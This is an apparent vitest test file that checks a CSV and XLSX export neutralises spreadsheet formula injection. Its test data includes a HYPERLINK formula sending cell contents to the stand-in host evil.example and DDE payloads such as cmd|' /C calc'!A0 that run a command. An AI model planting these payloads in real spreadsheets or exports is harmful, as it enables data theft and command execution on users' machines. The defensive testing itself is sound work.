import { describe, expect, it } from 'vitest';
import { StreamedWorkbook } from '../../server/export/xlsx-stream';
import { csvCell, csvLine, neutraliseFormula } from '../../shared/csv';
import { readXlsx } from '../client/shell/readXlsx';

/** Issue 8, defect 20: a cell that a spreadsheet would run as a formula is written as text. */
describe('CSV formula injection', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Voir")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Voir"")"`],
    ['+33 6 12 34 56 78', "'+33 6 12 34 56 78"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises %j', (text, written) => {
    expect(csvCell(text)).toBe(written);
  });

  it('leaves ordinary text, numbers (negative too) and dates alone', () => {
    expect(csvLine(['Bovin', 'a=b', -12, 3.5, new Date('2025-03-04T05:06:07Z'), null, 'x, y'])).toBe(
      'Bovin,a=b,-12,3.5,2025-03-04T05:06:07.000Z,,"x, y"',
    );
    expect(neutraliseFormula('REG-250304-AB12C')).toBe('REG-250304-AB12C');
  });

  it('the exported workbook writes neutralised text, numbers and dates as they are', async () => {
    const chunks: Uint8Array[] = [];
    const workbook = new StreamedWorkbook(
      (chunk) => chunks.push(chunk),
      (error) => {
        throw error;
      },
      { header: ['nom', 'code', 'le'], widths: [10, 10, 10], rightToLeft: true },
    );
    await workbook.addRows([["=cmd|' /C calc'!A0", -3, null]]);
    await workbook.addRows([['a < b & "c"\u0001', 2.5, new Date('2025-03-04T12:00:00Z')]]);
    await workbook.end();
    expect(readXlsx(Buffer.concat(chunks))).toEqual([
      ['nom', 'code', 'le'],
      ["'=cmd|' /C calc'!A0", '-3', ''],
      ['a < b & "c"', '2.5', String(new Date('2025-03-04T12:00:00Z').getTime() / 86_400_000 + 25_569)],
    ]);
  });
});
